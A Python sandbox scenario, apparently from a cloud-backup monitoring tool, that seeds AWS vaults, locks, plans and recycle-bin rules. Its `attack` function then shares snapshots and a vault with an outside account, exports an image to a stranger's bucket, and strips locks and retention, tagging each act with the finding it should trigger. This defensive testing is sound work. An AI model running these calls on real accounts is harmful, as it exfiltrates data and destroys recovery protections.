"""The story's vaults, lifecycle policies, locks and recycle bin, and what the thief makes of them."""

from typing import Any

from snapbase.sandbox.story import Act

_NIGHTLY = "nightly copies of the ledger"
_GAPPED = "isolated"
_DAILY = "daily"
_PLAN = "everything, every day"
_LOCKED = "evidence, under legal hold"
_IMAGE = "golden-batch"
_BUCKET = "a-bucket-of-nobody-we-know"


def seed(account: Any, region: str) -> None:
    """Vaults that share with nobody, one of them locked; a plan, a policy, a recycle bin and a lock."""
    backup, ec2 = account.client("backup", region), account.client("ec2", region)
    backup.create_backup_vault(BackupVaultName=_DAILY)
    backup.put_backup_vault_lock_configuration(BackupVaultName=_DAILY)
    backup.create_logically_air_gapped_backup_vault(BackupVaultName=_GAPPED, MinRetentionDays=7, MaxRetentionDays=90)
    role = "arn:aws:iam::aws:role/service-role/AWSBackupDefaultServiceRole"
    files = f"arn:aws:elasticfilesystem:{region}:{_number(account, region)}:file-system/fs-0a1b2c3d"
    backup.start_backup_job(BackupVaultName=_DAILY, ResourceArn=files, IamRoleArn=role)
    plan = backup.create_backup_plan(BackupPlan=_plan(35))["BackupPlanId"]
    assigned = {"SelectionName": "volumes", "IamRoleArn": role, "Resources": ["arn:aws:ec2:*:*:volume/*"]}
    backup.create_backup_selection(BackupPlanId=plan, BackupSelection=assigned)
    account.client("dlm", region).create_lifecycle_policy(
        ExecutionRoleArn=role, Description=_NIGHTLY, State="ENABLED", PolicyDetails=_details()
    )
    account.client("rbin", region).create_rule(
        ResourceType="EBS_SNAPSHOT",
        RetentionPeriod={"RetentionPeriodValue": 14, "RetentionPeriodUnit": "DAYS"},
        ResourceTags=[{"ResourceTagKey": "tier", "ResourceTagValue": "ledger"}],
        Description="ledger snapshots can come back for two weeks",
    )
    held = _snapshot(ec2, region, _LOCKED)
    ec2.lock_snapshot(SnapshotId=held, LockMode="governance", LockDuration=365)
    device = {"DeviceName": "/dev/sda1", "Ebs": {"SnapshotId": _snapshot(ec2, region, "batch image, root")}}
    ec2.register_image(Name=_IMAGE, RootDeviceName="/dev/sda1", BlockDeviceMappings=[device])


def _number(account: Any, region: str) -> str:
    return str(account.client("sts", region).get_caller_identity()["Account"])


def _snapshot(ec2: Any, region: str, description: str) -> str:
    volume = ec2.create_volume(AvailabilityZone=f"{region}a", Size=20)["VolumeId"]
    return str(ec2.create_snapshot(VolumeId=volume, Description=description)["SnapshotId"])


def _plan(days: int) -> dict[str, Any]:
    rule = {"RuleName": "daily", "TargetBackupVaultName": _DAILY, "Lifecycle": {"DeleteAfterDays": days}}
    return {"BackupPlanName": _PLAN, "Rules": [{**rule, "ScheduleExpression": "cron(0 5 ? * * *)"}]}


def _details(*rules: dict[str, Any]) -> dict[str, Any]:
    nightly = {"CreateRule": {"Interval": 24, "IntervalUnit": "HOURS"}, "RetainRule": {"Count": 14}}
    return {
        "PolicyType": "EBS_SNAPSHOT_MANAGEMENT",
        "ResourceTypes": ["VOLUME"],
        "TargetTags": [{"Key": "tier", "Value": "ledger"}],
        "Schedules": [{"Name": "nightly", **nightly, **({"ShareRules": list(rules)} if rules else {})}],
    }


def attack(account: Any, region: str, outsider: str) -> tuple[Act, ...]:
    """What shares by itself is turned towards `outsider`, an image leaves for S3, and four protections fall."""
    return (*_share(account, region, outsider), *_export(account, region), *_weaken(account, region))


def _share(account: Any, region: str, outsider: str) -> tuple[Act, ...]:
    dlm, ram = account.client("dlm", region), account.client("ram", region)
    policy = dlm.get_lifecycle_policies()["Policies"][0]["PolicyId"]
    dlm.update_lifecycle_policy(PolicyId=policy, PolicyDetails=_details({"TargetAccounts": [outsider]}))
    vault = account.client("backup", region).describe_backup_vault(BackupVaultName=_GAPPED)["BackupVaultArn"]
    ram.create_resource_share(name="restore test", resourceArns=[vault], principals=[outsider])
    return (
        Act(f"had lifecycle policy {policy} share every snapshot with {outsider}", "standing-share", policy),
        Act(f"shared backup vault {_GAPPED} with account {outsider}", "standing-share", vault),
    )


def _export(account: Any, region: str) -> tuple[Act, ...]:
    ec2 = account.client("ec2", region)
    images = ec2.describe_images(Owners=["self"])["Images"]
    image = next(each["ImageId"] for each in images if each["Name"] == _IMAGE)
    ec2.create_store_image_task(ImageId=image, Bucket=_BUCKET)
    return (
        Act(f"wrote image {image} to a bucket", "snapshot-appeared", f"{image}/exports"),
        Act(f"sent image {image} to s3://{_BUCKET}", "unknown-account-share", f"{image}/exports"),
    )


def _weaken(account: Any, region: str) -> tuple[Act, ...]:
    backup, ec2, rbin = (account.client(each, region) for each in ("backup", "ec2", "rbin"))
    vault = f":backup-vault:{_DAILY}"
    backup.delete_backup_vault_lock_configuration(BackupVaultName=_DAILY)
    plan = backup.list_backup_plans()["BackupPlansList"][0]["BackupPlanId"]
    backup.update_backup_plan(BackupPlanId=plan, BackupPlan=_plan(1))
    rule = rbin.list_rules(ResourceType="EBS_SNAPSHOT")["Rules"][0]["Identifier"]
    rbin.delete_rule(Identifier=rule)
    held = ec2.describe_locked_snapshots()["Snapshots"][0]["SnapshotId"]
    ec2.unlock_snapshot(SnapshotId=held)
    weakened = "protection-weakened"
    return (
        Act(f"took the lock off backup vault {_DAILY}", weakened, vault),
        Act(f"had backup plan {plan} keep backups for a day", weakened, plan),
        Act(f"deleted recycle bin rule {rule}", weakened, rule),
        Act(f"took the lock off EBS snapshot {held}", weakened, f"{held}/lock"),
    )
